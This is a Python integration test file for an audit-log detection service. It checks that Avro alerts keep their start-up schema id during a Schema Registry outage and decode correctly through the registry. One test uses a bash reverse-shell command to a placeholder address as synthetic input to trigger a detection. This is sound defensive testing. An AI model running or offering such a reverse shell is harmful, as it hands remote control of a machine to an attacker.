"""A Schema Registry outage after start-up: Avro alerts keep flowing, framed with the schema id
registered at start-up, and nothing is dead-lettered.

The registry is needed once, to register ``schemas/alert.avsc``; after that every alert is
written in the Confluent wire format with the id obtained then, so no alert depends on the
registry being up. This test has a registry of its own (it stops it; the session's registry is
shared with other tests).
"""

from __future__ import annotations

import io
import json
import struct
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import fastavro
import pytest
from confluent_kafka.schema_registry import SchemaRegistryClient, topic_subject_name_strategy
from confluent_kafka.schema_registry.avro import AvroDeserializer
from confluent_kafka.serialization import MessageField, SerializationContext

from auditstream.detections.alert import SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.stream.settings_types import AlertSettings, Properties
from auditstream.stream.sinks.encoders import AVRO_CONTENT_TYPE, alert_schema, avro_encoder
from devtools.jvm.process import wait_until
from devtools.jvm.registry import SchemaRegistry
from devtools.traffic.synthetic import exec_audit_events
from tests.integration.service.conftest import Deployment, StartInProcess
from tests.integration.service.corpus import build_corpus, scan_alert_ids

pytestmark = pytest.mark.integration


@pytest.fixture
def own_registry() -> Iterator[SchemaRegistry]:
    """A registry for this test alone: it is stopped half-way."""
    with SchemaRegistry() as registry:
        yield registry


def latest_schema_id(registry: SchemaRegistry, subject: str) -> int:
    url = f"{registry.url}/subjects/{subject}/versions/latest"
    with urllib.request.urlopen(url, timeout=10) as response:
        return int(json.loads(response.read())["id"])


def test_avro_alerts_survive_a_registry_outage(
    deployment: Deployment,
    own_registry: SchemaRegistry,
    in_process: StartInProcess,
    tmp_path: Path,
) -> None:
    topics = deployment.topics
    env = deployment.env(alert_format="avro", registry_url=own_registry.url)
    running = in_process(env)
    wait_until(
        running.service.started.is_set, timeout=60, what="the service started",
        alive=running.check_alive,
    )  # fmt: skip
    schema_id = latest_schema_id(own_registry, f"{topics.alerts}-value")
    own_registry.stop()  # the outage starts once the schema is registered, before any alert

    records = build_corpus(execs=12, routine=60, seed=11, shapes=("raw", "event_list", "ecs"))
    expected = scan_alert_ids(records, tmp_path)
    assert len(expected) >= 6
    started = time.monotonic()
    deployment.produce(records)
    deployment.wait_committed_to_end(timeout=90, alive=running.check_alive)
    elapsed = time.monotonic() - started
    assert running.stop() == 0

    letters = deployment.dead_letters()
    reasons = [dict(m.headers() or []).get("auditstream.dlq.reason") for m in letters]
    assert reasons == [], f"{len(letters)} dead letters during the outage"
    parsed = fastavro.parse_schema(json.loads(alert_schema()))
    decoded = []
    for msg in deployment.alerts():
        raw = msg.value()
        assert isinstance(raw, bytes)
        magic, framed_id = struct.unpack(">bI", raw[:5])
        assert (magic, framed_id) == (0, schema_id)  # the id registered at start-up
        alert = fastavro.schemaless_reader(io.BytesIO(raw[5:]), parsed, parsed)
        assert isinstance(alert, dict)
        assert msg.key() == alert["alert_id"].encode()
        decoded.append(alert["alert_id"])
    assert sorted(decoded) == sorted(expected)  # every alert, once
    assert elapsed < 60, f"{elapsed:.0f} s for {len(records)} records: the loop stalled"


def test_avro_alerts_are_read_back_through_the_registry(
    schema_registry: SchemaRegistry, topic: str
) -> None:
    """The start-up path (registration, the id it gives) and the framing written by hand: what a
    consumer's ``AvroDeserializer`` reads back, looking the id up in the registry."""
    settings = AlertSettings("avro", schema_registry.url, None, Properties(), 10)
    encoder = avro_encoder(settings, topic, startup_timeout=30)
    assert encoder.content_type == AVRO_CONTENT_TYPE
    event = exec_audit_events(command=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"))
    pipeline = DetectionPipeline(Detector(load_rules([]).rules), RecentAlerts(10))
    found = pipeline.process_message(json.dumps(event[0]).encode(), SourceRef("kafka", topic="t"))
    assert found.alerts

    deserialize = AvroDeserializer(
        SchemaRegistryClient({"url": schema_registry.url, "timeout": 30}),
        conf={"subject.name.strategy": topic_subject_name_strategy},  # no association lookup
    )
    context = SerializationContext(topic, MessageField.VALUE)
    schema_id = latest_schema_id(schema_registry, f"{topic}-value")
    for alert in found.alerts:
        ours = encoder.encode(alert)
        assert ours[:5] == b"\x00" + schema_id.to_bytes(4, "big")
        assert deserialize(ours, context) == alert.to_record()
